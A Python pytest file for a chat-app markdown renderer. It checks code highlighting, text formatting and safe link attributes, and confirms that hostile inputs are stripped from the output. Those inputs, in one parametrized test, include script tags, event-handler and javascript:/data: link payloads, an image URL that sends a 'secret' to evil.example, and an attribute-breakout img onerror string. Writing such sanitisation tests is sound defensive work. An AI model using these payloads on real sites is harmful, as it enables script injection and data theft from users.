"""Markdown: what is kept of it, and what never reaches a page."""

import pytest

from conversations.markdown import render


def test_code_is_coloured() -> None:
    shown = render("```python\ndef answer():\n    return 42\n```")
    assert '<span class="tok-k">def</span>' in shown
    assert 'class=""' not in shown


def test_code_of_an_unknown_language_is_shown_as_it_is() -> None:
    assert render("```klingon\n<qapla'>\n```").startswith('<pre class="code"><code>&lt;qapla')


def test_text_is_formatted() -> None:
    shown = render("**bold** `code`\n\n- one\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    for piece in ("<strong>bold</strong>", "<code>code</code>", "<li>one</li>", "<td>1</td>"):
        assert piece in shown


@pytest.mark.parametrize(
    ("text", "never"),
    [
        ("<script>alert(1)</script>", "<script"),
        ('<b onmouseover="x()">hi</b>', "<b"),
        ("[x](javascript:alert(1))", "href"),
        ("[x](data:text/html;base64,AAAA)", "href"),
        ("![x](https://evil.example/?q=secret)", "<img"),
        ("<iframe src=//evil.example></iframe>", "<iframe"),
        ('```"><img src=x onerror=y>\nhi\n```', "<img"),
    ],
)
def test_what_could_act_or_call_home_is_not_markup(text: str, never: str) -> None:
    assert never not in render(text)


def test_links_leave_no_trace() -> None:
    shown = render("[site](https://example.org/)")
    assert 'href="https://example.org/"' in shown
    assert 'rel="noopener noreferrer nofollow"' in shown
